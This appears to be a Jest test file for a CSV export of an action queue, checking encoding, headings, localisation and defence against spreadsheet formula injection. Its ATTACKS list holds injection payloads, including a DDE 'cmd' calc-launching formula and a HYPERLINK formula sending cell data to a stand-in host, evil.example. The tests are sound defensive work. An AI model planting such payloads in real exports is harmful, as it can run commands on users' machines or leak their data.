import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { queueCsv } from '../../../bot/report/queueCsv';
import type { ActionRow } from '../../../domain/contract/actions';
import type { Language } from '../../../domain/language/language';
import { textsOf } from '../../../domain/language/texts';
import { actionRow } from '../../support/sampleDigest';

const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '"=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  'harmless;=1+1',
  'harmless; @SUM(A1)',
  'harmless",=1+1',
  'two\r\n=lines',
];

const ODD_LETTERS = ['=', '+', '-', '@', ';', ',', '"', "'", '\t', '\r', '\n', ' ', 'é', '1'];

/** Reads RFC 4180: fields in quotes may hold separators, line ends and doubled quotes. */
function readCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let [field, isQuoted] = ['', false];
  for (let place = 0; place < text.length; place += 1) {
    const letter = text[place] ?? '';
    if (isQuoted && letter === '"' && text[place + 1] === '"') field += text[(place += 1)] ?? '';
    else if (letter === '"' && (isQuoted || field === '')) isQuoted = !isQuoted;
    else if (isQuoted) field += letter;
    else if (letter === separator || letter === '\n') {
      rows.at(-1)?.push(field.replace(/\r$/, ''));
      field = '';
      if (letter === '\n') rows.push([]);
    } else field += letter;
  }
  return rows.slice(0, -1);
}

const sheet = (rows: Partial<ActionRow>[], language: Language = 'en') =>
  queueCsv({ asOf: '2026-11-22', actions: rows.map((row) => actionRow(row)) }, textsOf(language)).toString('utf8');
const read = (rows: Partial<ActionRow>[]) => readCsv(sheet(rows).slice(1));
function firstRow(row: Partial<ActionRow>): Record<string, string> {
  const [headings = [], cells = []] = read([row]);
  return Object.fromEntries(headings.map((heading, place) => [heading, cells[place] ?? '']));
}

describe('the queue as a sheet', () => {
  it('is UTF-8 with a byte order mark, each row on a line that ends in CRLF', () => {
    const text = sheet([{ title: 'Kererū' }, {}]);
    expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.split('\r\n')).toHaveLength(4);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(text).toContain('Kererū');
  });

  it('reads back what the queue holds, under plain headings', () => {
    expect(
      firstRow({ title: 'Say "no", politely', rank: 3, pointsLeft: 4.29, status: 'planned', userImpact: 'low' }),
    ).toMatchObject({
      Rank: '3',
      Action: 'Say "no", politely',
      'Points to gain': '4.29',
      Status: 'Accepted',
      'Who notices': 'A few',
      'Figures of': '2026-11-22',
    });
  });

  it('leaves empty what is not supplied, and writes a 0 that is one', () => {
    const row = firstRow({
      pointsLeft: null,
      score: 0,
      affected: null,
      userImpact: null,
      effortMinutes: null,
      rank: null,
    });
    expect(row).toMatchObject({
      'Points to gain': '',
      'Points now': '0',
      'Not covered yet': '',
      'Who notices': '',
      'Minutes of work': '',
      Rank: '',
    });
    expect(sheet([{ pointsLeft: null, owner: null }])).not.toMatch(/null|undefined|NaN/);
  });

  it('is in the language of whoever asks for it', () => {
    const [heading, row] = readCsv(sheet([{ status: 'planned', userImpact: 'low', counts: 'people' }], 'de').slice(1));
    expect(heading).toEqual(expect.arrayContaining(['Rang', 'Punkte zu gewinnen', 'Wer es bemerkt']));
    expect(row).toEqual(expect.arrayContaining(['Übernommen', 'Wenige', 'Personen']));
  });

  it('keeps a negative number a number', () => {
    expect(firstRow({ score: -1.5 })['Points now']).toBe('-1.5');
  });

  it.each(ATTACKS)('makes %j harmless wherever a person or Microsoft may have written it', (attack) => {
    const row = firstRow({
      title: attack,
      service: attack,
      category: attack,
      owner: attack,
      threats: [attack],
      controlId: attack,
      reason: attack,
      decision: { sequence: 1, kind: 'ignore', by: attack, at: '2026-11-20T08:00:00Z', reason: attack, write: null },
    });
    expect(Object.values(row).filter(isFormula)).toEqual([]);
    expect(row['Action']).toContain(attack.includes('SUM') ? 'SUM' : attack.includes('1+1') ? '1+1' : '');
  });

  it('begins no formula, whatever is written and whichever separator a spreadsheet expects', () => {
    const letters = fc.array(fc.constantFrom(...ODD_LETTERS), { maxLength: 12 }).map((all) => all.join(''));
    fc.assert(
      fc.property(letters, letters, (title, owner) => {
        const text = sheet([{ title, owner }]).slice(1);
        for (const separator of [',', ';']) expect(readCsv(text, separator).flat().filter(isFormula)).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });
});

/** Numbers may begin with a minus. */
function isFormula(cell: string): boolean {
  return /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^-?[\d.]+$/.test(cell);
}
